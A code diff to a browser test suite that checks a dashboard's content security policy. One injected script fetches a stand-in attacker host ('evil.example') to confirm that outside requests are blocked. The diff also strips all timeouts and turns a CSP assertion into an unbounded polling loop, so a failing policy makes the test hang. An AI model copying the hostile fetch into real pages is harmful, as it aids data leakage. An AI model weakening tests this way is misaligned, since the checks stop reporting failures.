@@ -16,7 +16,7 @@ from confrere_federation.progress import Progress, read_progress
 from tests.faces.dashboard.test_screens import PAYLOADS
 from tests.faces.dashboard.world import WORDS, World, build
 
-pytestmark = [pytest.mark.browser, pytest.mark.timeout(240)]
+pytestmark = pytest.mark.browser
 
 BROWSERS = ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable")
 FLAGS = [
@@ -62,7 +62,7 @@ class Served:
         if enter is None:
             facts["storage_state"] = self.state
         page = self.browser.new_context(**facts).new_page()
-        page.set_default_timeout(20_000)
+        page.set_default_timeout(300_000)
         page.on("request", lambda request: self.asked.append(request.url))
         page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))
         page.goto(enter or self.base)
@@ -70,7 +70,7 @@ class Served:
 
     def end(self):
         self.process.terminate()
-        self.process.communicate(timeout=20)
+        self.process.communicate()
 
 
 def follow(page, link):
@@ -145,7 +145,7 @@ def test_without_scripts_every_screen_is_there_and_a_run_reloads(served, world):
     told = read_progress(world.live)
     del told["at"]
     Progress(world.live).say(**told | {"state": "told without a script"})
-    page.wait_for_selector("text=told without a script", timeout=15_000)
+    page.wait_for_selector("text=told without a script")
     page.context.close()
 
 
@@ -253,9 +253,9 @@ def test_the_content_policy_holds_even_where_escaping_would_not(served):
           fetch('http://evil.example/').catch(() => {});
         }"""
     )
-    page.wait_for_timeout(300)
+    while sum("Content Security Policy" in text for text in refused) < 8:  # each is refused
+        page.wait_for_timeout(100)
     assert page.evaluate("window.hacked") is None
-    assert sum("Content Security Policy" in text for text in refused) >= 8
     outside = [url for url in served.asked[before:] if not url.startswith(served.base)]
     assert [url for url in outside if "evil" not in url] == []
     served.asked[before:] = []  # these were ours, and blocked
